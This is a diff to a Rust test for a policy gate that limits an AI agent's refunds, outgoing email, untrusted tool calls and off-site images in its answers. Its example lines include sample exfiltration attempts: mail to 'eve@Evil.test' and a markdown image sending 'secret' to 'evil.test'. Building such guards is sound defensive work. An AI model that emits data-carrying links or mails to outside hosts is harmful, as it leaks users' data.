@@ -99,6 +99,7 @@ fn setup() -> GateSetup {
         ],
         models: vec!["support-script".into(), "small".into()],
         delegates: vec!["researcher".into()],
+        data: vec!["payees".into()],
     }
 }
 
@@ -160,6 +161,7 @@ fn facts(labels: &[&str], approved_by: Option<&str>) -> RequestFacts {
         task: "help".into(),
         labels: labels.iter().map(|s| s.to_string()).collect(),
         approved_by: approved_by.map(str::to_owned),
+        ..RequestFacts::default()
     }
 }
 
@@ -483,4 +485,76 @@ fn policies_load_from_the_agent_folder_in_name_order() {
         gate.schema_text()
             .contains("action \"refunds.issue\" in [\"call_tool\"]")
     );
+}
+
+#[test]
+fn provenance_facts_counters_grants_data_and_answers_reach_the_policies() {
+    let text = r#"
+@id("refund-orders-from-the-task")
+forbid(principal, action == Action::"refunds.issue", resource)
+unless { context.from.order_id.contains("task") };
+// example: deny refunds.issue {"order_id": "A-1", "amount": 5.0}; from: order_id=tool:tickets.read|untrusted
+// example: allow refunds.issue {"order_id": "A-1", "amount": 5.0}; from: order_id=task
+
+@id("one-refund-and-at-most-100")
+forbid(principal, action == Action::"refunds.issue", resource)
+when { context.counters.calls >= 1 || context.counters.sums.amount.greaterThan(decimal("100.0")) };
+// example: deny refunds.issue {"order_id": "A-1", "amount": 5.0}; from: order_id=task; calls: 1
+
+@id("mail-to-our-domain-or-saved-contacts")
+forbid(principal, action == Action::"email.send", resource)
+when {
+  context.facts has to &&
+  !(context.facts.to.email_domains.contains("example.com") || context.data.payees.contains(context.facts.to.lower))
+};
+// example: deny email.send {"to": "Eve <eve@Evil.test>"}
+// example: allow email.send {"to": "Ann@Example.com"}
+// example: allow email.send {"to": "bob@partner.test"}; data: payees=bob@partner.test
+
+@id("no-links-carrying-data-and-granted-after-untrusted")
+forbid(principal, action in Action::"call_tool", resource)
+when { context.labels.contains("untrusted") && context.grants.fixed && !context.grants.covered };
+// example: deny orders.lookup {"order_id": "A-1"}; labels: untrusted; grants-fixed
+// example: allow orders.lookup {"order_id": "A-1"}; labels: untrusted; granted
+
+@id("no-images-off-site")
+forbid(principal, action == Action::"respond", resource)
+when { !(["shop.example.com"].containsAll(context.answer.image_hosts)) };
+// example: deny respond {"text": "Done! ![x](https://evil.test/p?q=secret)"}
+// example: allow respond {"text": "Done! ![x](https://shop.example.com/logo.png) see https://evil.test"}
+
+@id("base")
+permit(principal, action in Action::"call_tool", resource);
+"#;
+    let gate = gate_with(text).unwrap_or_else(|e| panic!("{e}"));
+    // Without any policy about answers, they are returned.
+    let plain = gate_with("permit(principal, action in Action::\"call_tool\", resource);").unwrap();
+    let answer = rein_policy::answer_facts("hi", &Default::default());
+    assert_eq!(
+        plain.judge_answer(&answer, &facts(&[], None)).verdict,
+        Verdict::Allow
+    );
+    // A path argument is resolved before the policies see it.
+    let schema = rein_policy::schema_text(&setup());
+    for field in [
+        "\"from\"",
+        "\"facts\"",
+        "\"counters\"",
+        "\"grants\"",
+        "\"data\"",
+        "action \"respond\"",
+    ] {
+        assert!(schema.contains(field), "{field} in the schema");
+    }
+    // The same request gives the same decision, policies in a stable order.
+    let mut f = facts(&["untrusted"], None);
+    f.grants.fixed = true;
+    let first = gate.judge_tool("orders.lookup", &json!({"order_id": "A-1"}), &f);
+    for _ in 0..20 {
+        assert_eq!(
+            gate.judge_tool("orders.lookup", &json!({"order_id": "A-1"}), &f),
+            first
+        );
+    }
+    assert_eq!(first.verdict, Verdict::Deny);
 }
